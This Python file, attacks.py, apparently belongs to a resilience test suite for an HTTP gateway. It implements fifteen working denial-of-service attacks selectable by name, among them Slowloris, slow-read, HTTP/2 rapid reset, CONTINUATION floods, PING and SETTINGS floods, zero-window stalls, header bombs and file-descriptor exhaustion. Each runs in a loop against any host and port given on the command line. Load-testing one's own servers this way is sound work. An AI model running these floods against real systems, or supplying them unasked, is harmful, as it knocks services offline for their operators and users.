"""The attacks, each a loop that costs the attacker little and runs until it is ended.

    attacks.py NAME HOST PLAIN_PORT TLS_PORT

Prints `ready` when it is at full strength, and at the end of its input a line of JSON: what it sent,
and how many of its connections the gateway ended.
"""

import json
import os
import random
import select
import socket
import ssl
import sys
import time

from frames import (
    ACK, CONTINUATION, END_STREAM, HEADERS, PING, PREFACE, SETTINGS,
    field, frame, get, request, reset, settings,
)  # fmt: skip

HOST, PLAIN, TLS = sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
# each address has its own ports; none of them is the address of the clients that behave
SOURCES = [f"127.0.1.{last}" for last in range(1, 9)]


class Over(Exception):
    """The attack has been ended from outside."""


class Attack:
    """Connections of an attack, and what became of them."""

    def __init__(self):
        self.poll, self.open, self.said = select.epoll(), {}, False
        self.sent, self.opened, self.ended, self.answers = 0, 0, 0, {}
        self.poll.register(sys.stdin, select.EPOLLIN)

    def connect(self, port=PLAIN, first=b"", receive=None):
        """A connection that has sent `first`; `receive` is the size of its receive buffer."""
        stream = socket.socket()
        if receive:
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        # many connections to one port leave as many ports of ours
        stream.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        stream.bind((random.choice(SOURCES), 0))
        stream.setblocking(False)
        stream.connect_ex((HOST, port))
        self.opened += 1
        self.poll.register(stream, select.EPOLLIN)
        self.open[stream.fileno()] = stream
        if first:
            self.send(stream, first)
        return stream

    def send(self, stream, data):
        """How much of `data` went out; `None` when the connection has ended."""
        try:
            sent = stream.send(data)
        except BlockingIOError:
            return 0
        except OSError:
            self.end(stream)
            return None
        self.sent += sent
        return sent

    def end(self, stream, by_gateway=True):
        if self.open.pop(stream.fileno(), None) is not None:
            self.ended += by_gateway
            stream.close()

    def hear(self, seconds=0.0, most=65536):
        """Throws away what the gateway says, for so long; takes note of what it ended."""
        until = time.monotonic() + seconds
        while True:
            for number, _ in self.poll.poll(max(until - time.monotonic(), 0)):
                if number == sys.stdin.fileno():
                    raise Over
                if (stream := self.open.get(number)) is None:
                    continue
                try:
                    data = stream.recv(most)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if data.startswith(b"HTTP/1.1 "):
                    status = data[9:12].decode()
                    self.answers[status] = self.answers.get(status, 0) + 1
                if not data:
                    self.end(stream)
            if time.monotonic() >= until:
                return

    def ready(self):
        if not self.said:
            print("ready", flush=True)
            self.said = True

    def crowd(self, count, **how):
        """So many connections, 2,000 a second: to hold them is the attack, not to bring them."""
        for nth in range(count):
            self.connect(**how)
            if nth % 20 == 0:
                self.hear(0.01)
        self.hear(0.1)

    def keep(self, count, **how):
        """As many connections again as the gateway has ended."""
        for _ in range(min(count - len(self.open), 20)):
            self.connect(**how)


def slow_headers(attack):
    """Slowloris: 2,000 headers that never end, a line a second each."""
    first = b"GET / HTTP/1.1\r\nHost: test\r\n"
    attack.crowd(2000, first=first)
    while True:
        for nth, stream in enumerate(list(attack.open.values())):
            attack.send(stream, b"x: y\r\n")
            if nth % 100 == 0:
                attack.hear(0.05)
        attack.ready()
        attack.keep(2000, first=first)


def slow_bodies(attack):
    """1,000 bodies that come a byte a second, each holding a backend's connection too."""
    first = b"POST / HTTP/1.1\r\nHost: test\r\nContent-Length: 1000000\r\n\r\n"
    attack.crowd(1000, first=first)
    while True:
        for nth, stream in enumerate(list(attack.open.values())):
            attack.send(stream, b"x")
            if nth % 50 == 0:
                attack.hear(0.05)
        attack.ready()
        attack.keep(1000, first=first)


def slow_readers(attack):
    """300 answers of 10 MB, taken a byte a second into the smallest buffer there is."""
    first = b"GET /big HTTP/1.1\r\nHost: test\r\n\r\n"
    for nth in range(300):
        stream = attack.connect(first=first, receive=1)
        # it is readable all the time
        attack.poll.unregister(stream)
        if nth % 10 == 0:
            attack.hear(0.1)
    attack.hear(0.5)
    while True:
        for nth, stream in enumerate(list(attack.open.values())):
            try:
                stream.recv(1)
            except BlockingIOError:
                pass
            except OSError:
                attack.end(stream)
            if nth % 30 == 0:
                attack.hear(0.1)
        attack.ready()


def idle(attack):
    """10,000 connections that have asked once and then say nothing (fewer where files are few)."""
    attack.crowd(IDLE, first=b"GET / HTTP/1.1\r\nHost: test\r\n\r\n")
    attack.hear(1)
    while True:
        attack.ready()
        attack.hear(1)


def idle_tls(attack):
    """2,000 idle connections over TLS."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for nth in range(2000):
        plain = socket.create_connection((HOST, TLS), source_address=(random.choice(SOURCES), 0))
        stream = context.wrap_socket(plain, server_hostname="test")
        stream.send(b"GET / HTTP/1.1\r\nHost: test\r\n\r\n")
        stream.recv(65536)
        stream.setblocking(False)
        attack.open[stream.fileno()] = stream
        attack.opened += 1
        if nth % 20 == 0:
            attack.hear()
    while True:
        attack.ready()
        attack.hear(1)


def flood(attack, start, piece, connections=4, pause=0.005):
    """Sends `start`, then for ever what `piece` gives for the n-th time, as fast as it is taken,
    but no faster than a piece for each connection in each pause."""
    turns, left = {}, {}
    while True:
        attack.keep(connections)
        for number, stream in list(attack.open.items()):
            if number not in left:
                turns[number], left[number] = 0, PREFACE + start
            if not left[number]:
                left[number] = piece(turns[number])
                turns[number] += 1
            sent = attack.send(stream, left[number])
            if sent is None:
                turns.pop(number), left.pop(number)
            else:
                left[number] = left[number][sent:]
        # one who is cut off comes again; the pause bounds what connecting alone costs
        attack.hear(pause)
        for number in [number for number in left if number not in attack.open]:
            turns.pop(number), left.pop(number)
        attack.ready()


def resets(attack):
    """HTTP/2 rapid reset: requests that are taken back with the next frame."""
    block = get()

    def piece(turn):
        streams = range(turn * 200 + 1, turn * 200 + 201, 2)
        return b"".join(request(nth, block) + reset(nth) for nth in streams)

    flood(attack, settings(), piece)


def late_resets(attack):
    """2,000 requests a second that are taken back when the gateway has taken them up. Not more: the
    backend serves each, so that this is a load like any other."""
    block = get(b"/slow")

    def piece(turn):
        # those of the turn before are taken back
        asked = range(turn * 40 + 1, turn * 40 + 41, 2)
        back = b"".join(reset(nth - 40) for nth in asked) if turn else b""
        return back + b"".join(request(nth, block) for nth in asked)

    flood(attack, settings(), piece, pause=0.04)


def continuations(attack):
    """A header block that never ends: CONTINUATION after CONTINUATION, without END_HEADERS."""
    more = frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100) * 100)
    flood(attack, settings() + frame(HEADERS, END_STREAM, 1, get()), lambda _: more)


def empty_continuations(attack):
    """The same, of nothing."""
    more = frame(CONTINUATION, 0, 1) * 1000
    flood(attack, settings() + frame(HEADERS, END_STREAM, 1, get()), lambda _: more)


def pings(attack):
    """PING after PING, each of which has to be answered."""
    more = frame(PING, 0, 0, bytes(8)) * 1000
    flood(attack, settings() + request(1, get()), lambda _: more)


def settings_flood(attack):
    """SETTINGS after SETTINGS, each of which has to be acknowledged."""
    more = frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, 255, 255])) * 1000
    flood(attack, settings() + request(1, get()), lambda _: more)


def windows(attack):
    """Zero windows: 4 connections ask 100 times each for 10 MB and take no byte of it."""
    asked = b"".join(request(nth, get(b"/big")) for nth in range(1, 200, 2))
    first = PREFACE + settings(window=0) + frame(SETTINGS, ACK, 0) + asked
    for _ in range(WINDOWS):
        attack.connect(first=first)
        attack.hear(0.3)
    while True:
        attack.ready()
        attack.hear(0.2)
        attack.keep(WINDOWS, first=first)


def header_bombs(attack):
    """Headers of 200 KB: 431, on and on."""
    bomb(attack, b"GET / HTTP/1.1\r\nHost: test\r\nx: " + b"y" * 200_000)


def many_fields(attack):
    """Headers of 257 fields: 431, on and on."""
    fields = b"".join(b"x%d: y\r\n" % nth for nth in range(256))
    bomb(attack, b"GET / HTTP/1.1\r\nHost: test\r\n" + fields + b"\r\n")


def bomb(attack, header):
    left = {}
    while True:
        attack.keep(20)
        for number, stream in list(attack.open.items()):
            rest = left.get(number, header)
            sent = attack.send(stream, rest) if rest else 0
            if sent is None:
                left.pop(number, None)
            else:
                left[number] = rest[sent:]
        attack.hear(0.005)
        left = {number: rest for number, rest in left.items() if number in attack.open}
        attack.ready()


def files(attack):
    """300 connections that have begun a header, at a gateway with 256 descriptors."""
    attack.crowd(300, first=b"GET")
    while True:
        attack.ready()
        attack.hear(0.2)
        attack.keep(300, first=b"GET")


ATTACKS = {
    "slowloris": slow_headers, "slow-body": slow_bodies, "slow-read": slow_readers,
    "idle": idle, "idle-tls": idle_tls, "rapid-reset": resets, "late-reset": late_resets,
    "continuation": continuations, "empty-continuation": empty_continuations,
    "ping": pings, "settings": settings_flood, "zero-window": windows,
    "header-bomb": header_bombs, "257-fields": many_fields, "files": files,
}  # fmt: skip
IDLE = int(os.environ.get("IDLE", "10000"))
WINDOWS = 4

if __name__ == "__main__":
    attack = Attack()
    try:
        ATTACKS[sys.argv[1]](attack)
    except Over:
        pass
    said = {"opened": attack.opened, "ended": attack.ended, "sent": attack.sent}
    print(json.dumps(said | {"answers": attack.answers}), flush=True)
